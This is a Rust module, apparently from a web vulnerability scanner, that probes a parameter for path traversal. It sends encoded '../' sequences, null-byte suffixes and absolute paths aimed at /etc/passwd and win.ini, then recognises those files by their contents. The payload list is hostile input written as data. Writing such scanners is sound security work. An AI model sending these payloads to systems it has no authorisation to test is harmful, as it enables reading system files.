//! Paths that lead out of their folder, to a file that every system has and whose look is known.

use super::flaws::TRAVERSAL;
use super::probe::Probe;
use crate::live::Gap;
use crate::report::Finding;

const UP: usize = 9;
/// How a step up is written, and what is put after the file's name.
const WAYS: [(&str, &str); 7] = [
    ("../", ""),
    ("....//", ""),
    ("%2e%2e%2f", ""),
    ("..%2f", ""),
    ("..%252f", ""),
    ("../", "\0"),
    ("..;/", ""),
];

pub async fn look(probe: &Probe<'_, '_>) -> Result<Option<Finding>, Gap> {
    if probe.counts_failures() {
        return Ok(None);
    }
    // A path may have to begin where the value lies, or to end as it does.
    let ending = probe.value.rsplit_once('.').map(|(_, end)| format!("\0.{end}"));
    let steps = |step: &str| step.repeat(UP);
    let mut all: Vec<String> =
        WAYS.iter().map(|(step, end)| format!("{}etc/passwd{end}", steps(step))).collect();
    all.push("/etc/passwd".to_owned());
    all.push("file:///etc/passwd".to_owned());
    all.extend(ending.map(|end| format!("{}etc/passwd{end}", steps("../"))));
    all.push(format!("{}/{}etc/passwd", probe.value, steps("../")));
    all.push(format!("{}windows\\win.ini", "..\\".repeat(UP)));
    for sent in all {
        let Some(reply) = probe.ask(sent.as_str()).await? else { continue };
        let text = reply.text();
        if is_file(&text) && !is_file(&probe.before.reply.text()) {
            let how = format!("`{}` was answered with that file.", sent.replace('\0', "%00"));
            return Ok(Some(probe.found(&TRAVERSAL, &how, vec![reply.exchange])));
        }
    }
    Ok(None)
}

/// The first line of `/etc/passwd`, or two lines of `win.ini`.
pub fn is_file(text: &str) -> bool {
    let unix = text.match_indices("root:").any(|(at, _)| {
        let rest: String = text.get(at + 5..).unwrap_or_default().chars().take(40).collect();
        rest.split_once(':').is_some_and(|(_, rest)| rest.starts_with("0:0:"))
    });
    unix || (text.contains("[fonts]") && text.contains("16-bit app support"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_file_is_known_by_its_look() {
        assert!(is_file("{\"text\": \"root:x:0:0:root:/root:/bin/bash\\n\"}"));
        assert!(is_file("; for 16-bit app support\n[fonts]\n"));
        assert!(!is_file("no such file: ../../etc/passwd") && !is_file("root: x"));
    }
}
